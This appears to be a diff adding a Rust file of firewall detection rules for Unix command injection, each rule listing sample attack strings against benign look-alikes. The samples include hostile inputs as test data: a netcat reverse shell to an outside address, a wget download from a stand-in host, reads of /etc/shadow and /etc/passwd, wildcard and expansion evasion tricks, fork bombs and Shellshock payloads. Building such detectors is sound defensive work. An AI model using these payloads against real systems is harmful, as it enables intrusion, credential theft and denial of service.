@@ -1,0 +1,180 @@
+//! Rules for Unix shells, each with its proofs.
+
+use waf_shared::catalog::Leaf;
+
+use crate::field::Places;
+use crate::rule::{Rule, STRONG, Test};
+
+pub(super) static COMMAND: Rule = Rule {
+    id: "command-injection-unix-commands/command-line",
+    leaf: Leaf::CommandInjectionUnixCommands,
+    weight: STRONG,
+    places: Places::REQUEST,
+    test: Test::Judged,
+    summary: "A program of a Unix system stands in a command's place, with arguments of its kind.",
+    attacks: &[
+        "127.0.0.1; cat /etc/hostname",
+        "report.pdf|id",
+        "x && w'h'oam\"i\"",
+        "8.8.8.8\nwget http://drop.example/a.sh -O /tmp/a",
+        "';uname -a;'",
+        "a=net;b=stat;$a$b -an",
+        "/usr/bin/perl -e 'exec \"/bin/sh\"'",
+        "img.png; c\\at /etc/shadow",
+        "; nc -e /bin/sh 203.0.113.9 4444",
+    ],
+    everyday: &[
+        "cat and dog; find more",
+        "who is it? | time to go",
+        "top | bottom",
+        "fish & chips",
+        "use the force; curl up with a book; wget some rest",
+        "ls 300 lexus",
+        "ping me at 5; sleep 8 hours",
+        "Preheat the oven; cut the onions; sort the beans; mix.",
+        "C:\\Users\\me\\file.txt",
+    ],
+};
+
+pub(super) static COMMAND_LIKE: Rule = Rule {
+    id: "command-injection-unix-commands/command-like",
+    leaf: Leaf::CommandInjectionUnixCommands,
+    weight: 2,
+    places: Places::REQUEST,
+    test: Test::Judged,
+    summary: "Something that could be a Unix command, or prose about one.",
+    attacks: &["perl -v", "please tell me; tail -f", "we had it all; wget some rest"],
+    everyday: &["Terms & conditions", "echo chamber", "kill two birds with one stone"],
+};
+
+pub(super) static ENGLISH: Rule = Rule {
+    id: "command-injection-english-words/command-line",
+    leaf: Leaf::CommandInjectionEnglishWords,
+    weight: STRONG,
+    places: Places::REQUEST,
+    test: Test::Judged,
+    summary: "An everyday word that is also a command stands in a command's place.",
+    attacks: &["127.0.0.1; who", "a | sort", "x && date -u", "127.0.0.1; cat notes.txt"],
+    everyday: &["a sorted list", "the date; the time", "find more on page 5"],
+};
+
+pub(super) static SUBSTITUTION: Rule = Rule {
+    id: "command-injection-shell-substitution/command",
+    leaf: Leaf::CommandInjectionShellSubstitution,
+    weight: STRONG,
+    places: Places::REQUEST,
+    test: Test::Judged,
+    summary: "A shell's substitution runs a command or rewrites a parameter in place.",
+    attacks: &[
+        "$(id)",
+        "ax--exec=`id`--remote=origin",
+        "cat${IFS}/etc/passwd",
+        "${`uname`}",
+        "<(cat file)",
+        "/etc/pas[s]wd",
+        "${PATH##*/}",
+        "~+",
+    ],
+    everyday: &[
+        "Hello ${name}, your order ${order.id} is on its way",
+        "use `git status` first",
+        "$100 (approx.)",
+        "$(document).ready(function () { $('#id').hide() })",
+        "the `code` is here",
+        "/items[0]/name",
+        "/book[price>35]/title",
+    ],
+};
+
+pub(super) static SUBSTITUTION_LIKE: Rule = Rule {
+    id: "command-injection-shell-substitution/expansion",
+    leaf: Leaf::CommandInjectionShellSubstitution,
+    weight: 2,
+    places: Places::REQUEST,
+    test: Test::Judged,
+    summary: "An expansion of shell parameters or arithmetic within a text.",
+    attacks: &["total=$((6*7))", "the script uses ${file%%.*} here", "see ${path//a/b} for more"],
+    everyday: &["${name}", "#{name} and {{name}}", "Price: $(15)"],
+};
+
+pub(super) static ALIAS: Rule = Rule {
+    id: "command-injection-shell-aliases/definition",
+    leaf: Leaf::CommandInjectionShellAliases,
+    weight: STRONG,
+    places: Places::REQUEST,
+    test: Test::Judged,
+    summary: "A shell alias is defined.",
+    attacks: &["alias q=env;q", "x; alias -g w=whoami", "alias ..='cd ..'"],
+    everyday: &["alias", "his alias was Bob", "an alias for x = y"],
+};
+
+pub(super) static HISTORY: Rule = Rule {
+    id: "command-injection-shell-history/event",
+    leaf: Leaf::CommandInjectionShellHistory,
+    weight: STRONG,
+    places: Places::REQUEST,
+    test: Test::Judged,
+    summary: "A command is recalled from the shell's history.",
+    attacks: &["!-1", "; !-2", "sudo !!:p", "!-1!-2"],
+    everyday: &["Wow!!", "n!-1 permutations", "wait!-1 more"],
+};
+
+pub(super) static BRACES: Rule = Rule {
+    id: "command-injection-brace-expansion/list",
+    leaf: Leaf::CommandInjectionBraceExpansion,
+    weight: STRONG,
+    places: Places::REQUEST,
+    test: Test::Judged,
+    summary: "A command and its arguments are written as a brace list.",
+    attacks: &["{cat,/etc/passwd}", ";{ls,-la}", "{,ip,a}"],
+    everyday: &["{\"a\":1,\"b\":2}", "{id,name}", "a{color:red;margin:0,1}"],
+};
+
+pub(super) static WILDCARD: Rule = Rule {
+    id: "command-injection-shell-wildcards/path",
+    leaf: Leaf::CommandInjectionShellWildcards,
+    weight: STRONG,
+    places: Places::REQUEST,
+    test: Test::Judged,
+    summary: "A path whose directories are hidden behind wildcards.",
+    attacks: &["/???/c?t", "cat /et*/*wd", "; /b?n/ls"],
+    everyday: &["Does the * shine bright?", "*/*; q=0.8", "really? /sure"],
+};
+
+pub(super) static EVASION: Rule = Rule {
+    id: "command-injection-evasion-tricks/hollow-expansion",
+    leaf: Leaf::CommandInjectionEvasionTricks,
+    weight: STRONG,
+    places: Places::REQUEST,
+    test: Test::Judged,
+    summary: "A word is cut by expansions that come to nothing.",
+    attacks: &["host;c$?at /et$?c/pas$?swd", "x;wh$@oami", "cat$u /etc$u/passwd"],
+    everyday: &["it costs $5; pay in cash", "a$b", "US$ and C$"],
+};
+
+pub(super) static FORK_BOMB: Rule = Rule {
+    id: "command-injection-fork-bomb/function",
+    leaf: Leaf::CommandInjectionForkBomb,
+    weight: STRONG,
+    places: Places::REQUEST,
+    test: Test::Judged,
+    summary: "A shell function that starts itself twice.",
+    attacks: &[":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f(){ f() & f(); }; f"],
+    everyday: &["hello (world) | test", "function a() { return b || c; }", "http://example.com:8080/path"],
+};
+
+pub(super) static SHELLSHOCK: Rule = Rule {
+    id: "command-injection-shellshock/function-definition",
+    leaf: Leaf::CommandInjectionShellshock,
+    weight: STRONG,
+    places: Places::REQUEST,
+    test: Test::Judged,
+    summary: "A shell function definition where a value is expected.",
+    attacks: &[
+        "() { :; }; echo; /bin/id",
+        "() {",
+        "() { _; } >_[$($())] { id; }",
+        "a=() { :;}; ping -c 1 203.0.113.9",
+    ],
+    everyday: &["function () { return 1; }", "() => { return 1; }", "call() {x}"],
+};
